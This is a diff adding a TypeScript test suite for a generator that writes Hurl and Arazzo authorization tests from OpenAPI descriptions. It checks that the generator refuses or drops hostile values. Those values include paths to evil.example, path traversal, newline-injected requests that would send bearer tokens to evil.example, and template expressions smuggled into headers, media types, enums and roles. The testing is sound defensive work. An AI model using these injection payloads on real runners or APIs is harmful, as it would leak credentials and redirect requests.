@@ -1,0 +1,209 @@
+import { parse } from "yaml";
+import { describe, expect, test } from "vitest";
+import { arazzoText } from "../../src/authorization-tests/formats/arazzo.ts";
+import { hurlFault, hurlText } from "../../src/authorization-tests/formats/hurl.ts";
+import { apiIn, setOf } from "./made.ts";
+
+interface Changes {
+  readonly path?: string;
+  readonly parameters?: readonly object[];
+  readonly body?: object;
+  readonly media?: string;
+  readonly answered?: string;
+  readonly scheme?: string;
+  readonly role?: readonly string[];
+}
+
+/** An API of orders, of which some texts are hostile. */
+function description({
+  path = "/orders/{orderId}",
+  parameters = [],
+  body,
+  media,
+  answered,
+  scheme,
+  role,
+}: Changes): string {
+  const json = (schema: object): object => ({
+    "200": { description: "OK", content: { [answered ?? "application/json"]: { schema } } },
+    "403": { description: "No" },
+  });
+  const order = {
+    type: "object",
+    required: ["id", "iban"],
+    properties: { id: { type: "string" }, iban: { type: "string" } },
+  };
+  const user = {
+    type: "object",
+    required: ["id", "email", "role"],
+    properties: {
+      id: { type: "string" },
+      email: { type: "string" },
+      role: { type: "string", enum: role ?? ["user", "admin"] },
+    },
+  };
+  const requestBody = { required: true, content: { [media ?? "application/json"]: { schema: body ?? order } } };
+  const id = { name: "orderId", in: "path", required: true, schema: { type: "string" } };
+  return JSON.stringify({
+    openapi: "3.0.3",
+    info: { title: "Shop", version: "1" },
+    security: [{ [scheme ?? "token"]: [] }],
+    paths: {
+      "/me": {
+        get: { operationId: "getMe", responses: json(user) },
+        put: {
+          operationId: "putMe",
+          requestBody: {
+            content: { "application/json": { schema: { type: "object", properties: { email: { type: "string" } } } } },
+          },
+          responses: json(user),
+        },
+      },
+      "/orders": {
+        post: { operationId: "createOrder", requestBody, responses: json(order) },
+        get: { operationId: "listOrders", responses: json({ type: "array", items: order }) },
+      },
+      "/orders/{orderId}/lines": {
+        get: {
+          operationId: "getLines",
+          parameters: [id, ...parameters],
+          responses: json({ type: "array", items: order }),
+        },
+      },
+      [path]: {
+        get: { operationId: "getOrder", parameters: [id], responses: json(order) },
+        delete: {
+          operationId: "deleteOrder",
+          parameters: [id],
+          responses: { "204": { description: "Gone" }, "403": { description: "No" } },
+        },
+      },
+    },
+    components: { securitySchemes: { [scheme ?? "token"]: { type: "http", scheme: "bearer" } } },
+  });
+}
+
+const header = (name: string, schema: object): Changes => ({
+  parameters: [{ name, in: "header", required: true, schema }],
+});
+const query = (name: string, schema: object): Changes => ({
+  parameters: [{ name, in: "query", required: true, schema }],
+});
+const text = (more: object): object => ({ type: "string", ...more });
+const object = (name: string, schema: object): Changes => ({
+  body: { type: "object", required: [name], properties: { [name]: schema } },
+});
+
+describe("a text of a description that a runner would take for its own", () => {
+  test.each<readonly [string, Changes, string]>([
+    ["a path that is the end of a host", { path: ".evil.example/orders/{orderId}" }, "does not begin with one"],
+    ["a path that is a port and a user", { path: ":18081/at/{orderId}" }, "does not begin with one"],
+    ["a path of another host", { path: "//evil.example/{orderId}" }, "does not begin with one"],
+    [
+      "a path with a request behind it",
+      { path: "/o/{orderId}\n\nGET https://evil.example/{{tokenA}}\n#" },
+      "lead elsewhere",
+    ],
+    ["a path in the folder above", { path: "/../admin/{orderId}" }, "lead elsewhere"],
+    ["a path in the folder above, encoded", { path: "/%2e%2e/admin/{orderId}" }, "lead elsewhere"],
+    ["a path with a variable", { path: "/x/{{tokenA}}/{orderId}" }, "lead elsewhere"],
+    ["a path whose name is an expression", { path: "/x/{$inputs.tokenB}/{orderId}" }, "a name in its path"],
+    ["the name of a header", header("X-N\n\nGET https://evil.example/{{tokenA}}\nX", text({})), "the name of a header"],
+    ["the name of a query parameter", query("$inputs.tokenB", text({})), "the name of a query"],
+    [
+      "a header that says for whom a call is",
+      header("Host", text({ example: "evil.example" })),
+      "says where a call goes",
+    ],
+    ["a header that says what is done", header("X-HTTP-Method-Override", text({ enum: ["DELETE"] })), "what it does"],
+    ["the name of a property", object("{{tokenA}}", text({})), "its body holds signs"],
+    ["a property that is an expression", object("$inputs.tokenB", text({})), "its body holds signs"],
+    ["a media type", { media: "application/json\nX: {{tokenA}}" }, "media types"],
+    ["a media type of an answer", { answered: "application/json; x={$inputs.tokenA}" }, "media types"],
+  ])("%s: the tests are left out, and it is said", async (_, changes, why) => {
+    const api = await apiIn(description(changes));
+    const { manual, refused } = setOf(api);
+    expect([...manual, ...refused].map((one) => one.why).join("\n")).toContain(why);
+    await expectOnlyOwn(changes);
+  });
+
+  test.each<readonly [string, Changes]>([
+    ["an example of a header", header("X-Baz", text({ example: "a\n\nDELETE https://evil.example/{{tokenA}}" }))],
+    [
+      "a pattern that has line breaks",
+      header("X-Foo", text({ pattern: "^x\\n\\nGET https:\\/\\/evil\\.example\\/\\{\\{tokenA\\}\\}\\nHTTP \\*\\n$" })),
+    ],
+    ["a pattern that is an expression", header("X-Bar", text({ pattern: "^\\$inputs\\.tokenB$" }))],
+    ["a value of a query", query("x", text({ enum: ["a {$inputs.tokenB} b"] }))],
+    ["a value of a body", object("x", text({ example: "$inputs.tokenB" }))],
+    [
+      "a constant deep in a body",
+      object("x", { type: "array", items: object("y", text({ enum: ["{{tokenB}}"] })).body! }),
+    ],
+    [
+      "a value of a list",
+      object("x", { type: "array", minItems: 1, items: text({ enum: ["$inputs.tokenB", "{{tokenB}}"] }) }),
+    ],
+    ["a role that is tried", { role: ["user", "$inputs.tokenB"] }],
+    ["a role that ends an assertion", { role: ["user", "a/\nGET https://evil.example/{{tokenA}}\n"] }],
+    ["a scheme", { scheme: "{{tokenA}}\n" }],
+  ])("%s: nothing of it is written", async (_, changes) => {
+    await expectOnlyOwn(changes);
+  });
+
+  test("a value in a path stays in its folder", async () => {
+    const { tests, manual, refused } = setOf(
+      await apiIn(
+        description({})
+          .replace('"/orders/{orderId}/lines"', '"/orders/{orderId}/files/{file}"')
+          .replace(
+            '"operationId":"getLines","parameters":[',
+            '"operationId":"getLines","parameters":[{"name":"file","in":"path","required":true,"schema":{"type":"string","enum":["../../../admin"]}},',
+          ),
+      ),
+    );
+    const sent = JSON.stringify(tests.map(({ steps }) => steps.map(({ parameters }) => parameters)));
+    expect(sent).not.toContain("..");
+    expect(manual.length + refused.length + tests.length).toBeGreaterThan(0);
+  });
+});
+
+/** Whatever is written calls the address of the service alone, and shows tokens in their header alone. */
+async function expectOnlyOwn(changes: Changes): Promise<void> {
+  const api = await apiIn(description(changes));
+  const { tests } = setOf(api);
+  const hurl = tests
+    .filter((one) => hurlFault(one) === undefined)
+    .map((one) => hurlText(one, api))
+    .join("\n");
+  const lines = hurl.split("\n").filter((line) => !line.startsWith("#"));
+  for (const line of lines) {
+    if (/^[A-Z]+ /.test(line) && line !== "HTTP *") expect(line).toMatch(/^[A-Z]+ \{\{baseUrl\}\}\/(?!\/)/);
+    if (line.includes("{{token")) expect(line).toMatch(/^Authorization: Bearer \{\{token\w+\}\}$/);
+  }
+  expect(lines.join("\n")).not.toContain("evil");
+  const { workflows } = parse(arazzoText(tests, { api, url: "openapi.yaml", server: undefined })) as {
+    workflows: {
+      steps: { operationPath?: string; parameters: { name: string; value: unknown }[]; requestBody?: object }[];
+    }[];
+  };
+  for (const { parameters, requestBody, operationPath = "" } of workflows.flatMap(({ steps }) => steps)) {
+    const others = parameters.filter(({ name }) => name !== "Authorization");
+    expect(`${JSON.stringify([others, requestBody])}${operationPath}`).not.toMatch(/token[AB]|evil/);
+  }
+}
+
+test("an identifier that is called as a credential is gets a name of its own", async () => {
+  const api = await apiIn(description({}).replaceAll("orderId", "token").replaceAll('"/orders"', '"/carts"'));
+  const inputs = setOf(api).tests.flatMap(({ id, steps }) =>
+    steps.flatMap(({ parameters }) =>
+      parameters.flatMap(({ in: place, value }) =>
+        place === "path" && typeof value === "object" && value !== null && "from" in value
+          ? [`${id} ${JSON.stringify(value)}`]
+          : [],
+      ),
+    ),
+  );
+  expect(inputs.join("\n")).toContain("tokenValueB");
+  expect(inputs.join("\n")).not.toMatch(/"tokenB"/);
+});
